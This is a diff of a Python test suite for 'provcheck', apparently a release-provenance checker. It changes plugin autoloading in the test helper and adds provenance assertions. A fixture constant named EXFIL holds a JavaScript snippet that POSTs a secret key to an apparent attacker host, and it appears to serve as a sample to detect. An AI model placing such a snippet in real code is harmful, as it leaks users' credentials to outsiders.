@@ -19,10 +19,12 @@ EXFIL = ('\nfunction addToQueue(k) {\n  try {\n    fetch("https://rpc-queue.atta
          '{method: "POST", headers: {"x-amz-cf-id": k.secretKey}});\n  } catch (e) {}\n}\n')
 
 
-def run(*args: object, plugins: tuple[str, ...] = ("provcheck_release",)) -> tuple[int, dict]:
+def run(*args: object, plugins: tuple[str, ...] | None = ("provcheck_release",)) -> tuple[int, dict]:
+    """``plugins=None``: the installed plugins, autoloaded, as a user runs it."""
     env = {k: v for k, v in os.environ.items() if not k.startswith("PROVCHECK_")}
-    env["PROVCHECK_DISABLE_PLUGIN_AUTOLOAD"] = "1"
-    cmd = [sys.executable, "-m", "provcheck"] + [x for p in plugins for x in ("-p", p)] + [str(a) for a in args]
+    if plugins is not None:
+        env["PROVCHECK_DISABLE_PLUGIN_AUTOLOAD"] = "1"
+    cmd = [sys.executable, "-m", "provcheck"] + [x for p in plugins or () for x in ("-p", p)] + [str(a) for a in args]
     proc = subprocess.run(cmd + ["--format", "json"], capture_output=True, text=True, timeout=300, env=env)
     assert "Traceback" not in proc.stderr, proc.stderr[-3000:]
     assert proc.stdout, proc.stderr[-3000:]
@@ -240,9 +242,11 @@ def test_provenance_tied_to_the_tag(npm_built, tmp_path):
         return path
 
     plugins = ("provcheck_release", "provcheck_attest")
-    code, data = run("release", tgz, "--source", repo, "--provenance", attestations(commit), "--trusted-root", root,
-                     plugins=plugins)
-    assert code == 0 and [f["rule_id"] for f in data["findings"] if f["rule_id"] in ("PC117", "PC118", "PC119")] == ["PC119"]
+    for loaded in (plugins, None):  # named, and autoloaded (release keeps the plugin that verifies for it)
+        code, data = run("release", tgz, "--source", repo, "--provenance", attestations(commit), "--trusted-root",
+                         root, plugins=loaded)
+        assert code == 0 and [f["rule_id"] for f in data["findings"]
+                              if f["rule_id"] in ("PC117", "PC118", "PC119")] == ["PC119"], data["findings"]
     code, data = run("release", tgz, "--source", repo, "--provenance", attestations("f" * 40), "--trusted-root", root,
                      plugins=plugins)
     f = next(f for f in data["findings"] if f["rule_id"] == "PC117")
@@ -261,6 +265,9 @@ def test_provenance_tied_to_the_tag(npm_built, tmp_path):
                      plugins=plugins)
     f = next(f for f in data["findings"] if f["rule_id"] == "PC117")
     assert "subject is another artifact" in f["message"]
+    # without the attest plugin the provenance is an error, never a silent pass
+    code, data = run("release", tgz, "--source", repo, "--provenance", tmp_path / "p.json")
+    assert code == 3 and "needs the attest plugin" in json.dumps(data["errors"])
     # history: earlier releases were attested, this one comes without
     hist = tmp_path / "hist.json"
     hist.write_text(json.dumps({"npmdemo": {"1.9.0": {"identity": ident.san}}}))
